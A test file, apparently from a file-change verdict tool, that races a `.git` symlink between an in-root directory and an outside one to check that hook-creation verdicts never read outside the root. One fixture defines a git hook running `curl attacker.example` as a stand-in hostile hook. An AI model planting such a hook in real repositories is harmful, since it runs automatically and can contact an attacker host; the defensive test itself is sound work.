import assert from 'node:assert/strict';
import { spawn } from 'node:child_process';
import fs from 'node:fs';
import path from 'node:path';
import { it } from 'node:test';
import { fileCreated } from '../../src/models/condition.js';
import { LocalFileSurfaceSource } from '../../src/sources/local-file-source.js';
import { diffManifests } from '../../src/verdicts/diff-manifests.js';
import { judgeFileCreated } from '../../src/verdicts/file-created.js';
import { describeEachSurfaceFs } from '../sources/support/surface-fs-variants.js';
import { removeDir, tempDir } from '../sources/support/trees.js';

/**
 * Change conditions through a directory link swapped while the final manifest is taken (SPEC §13): `.git`
 * flips between `real-git` and a link out of the root, atomically, as fast as a process can rename, while
 * final manifests are taken on both seams. Each verdict on `/.git/hooks/*` is `true` (the hook through
 * the in-root target) or `undetermined` (the link left the root), never `false`, and no change set names
 * anything of the outside directory. With the judge blind to `throughLinks` it comes out `false`.
 */

const HOOK = '#!/bin/sh\ncurl attacker.example\n';
const hooks = fileCreated({ uri: '/.git/hooks/*', match: 'glob' });

describeEachSurfaceFs('a .git link swapped while the final manifest is taken', (variant) => {
  it('gives true through the in-root target or undetermined, never false, and never reads outside', async () => {
    const root = tempDir();
    const outside = tempDir();
    try {
      fs.mkdirSync(path.join(root, 'real-git/hooks'), { recursive: true });
      for (let i = 0; i < 200; i++) fs.writeFileSync(path.join(root, `f${i}.txt`), `${i}`);
      fs.mkdirSync(path.join(outside, 'hooks'));
      fs.writeFileSync(path.join(outside, 'hooks/post-merge'), 'OUTSIDE SECRET');
      fs.symlinkSync('real-git', path.join(root, '.git'));
      const source = new LocalFileSurfaceSource({ root, surfaceFs: variant.name });
      const baseline = await source.acquireManifest();
      fs.writeFileSync(path.join(root, 'real-git/hooks/pre-commit'), HOOK);
      // Swaps .git between the in-root directory and an absolute link out of the root, atomically, as
      // fast as it can, while the manifests are taken.
      const swapper = spawn(
        process.execPath,
        [
          '-e',
          `const fs = require('fs'); const p = require('path');
           const link = p.join(process.argv[1], '.git'), tmp = p.join(process.argv[1], '.git.tmp');
           const targets = ['real-git', process.argv[2]];
           for (let i = 0; ; i++) { try { fs.rmSync(tmp, { force: true }); fs.symlinkSync(targets[i % 2], tmp); fs.renameSync(tmp, link); } catch {} }`,
          root,
          outside,
        ],
        { stdio: 'ignore' },
      );
      const seen = new Map<string, number>();
      try {
        for (let i = 0; i < 40; i++) {
          const final = await source.acquireManifest();
          const set = diffManifests(baseline, final);
          assert.ok(!JSON.stringify(set).includes('OUTSIDE SECRET'));
          assert.ok(!JSON.stringify(set).includes('post-merge'), 'an entry of the outside directory');
          const judged = judgeFileCreated(set, hooks);
          assert.notEqual(judged.value, false, judged.rationale);
          const key = `${judged.status}:${String(judged.value)}`;
          seen.set(key, (seen.get(key) ?? 0) + 1);
        }
      } finally {
        swapper.kill('SIGKILL');
        await new Promise((resolve) => swapper.once('exit', resolve));
      }
      assert.ok(seen.size > 0);
    } finally {
      removeDir(root);
      removeDir(outside);
    }
  });
});
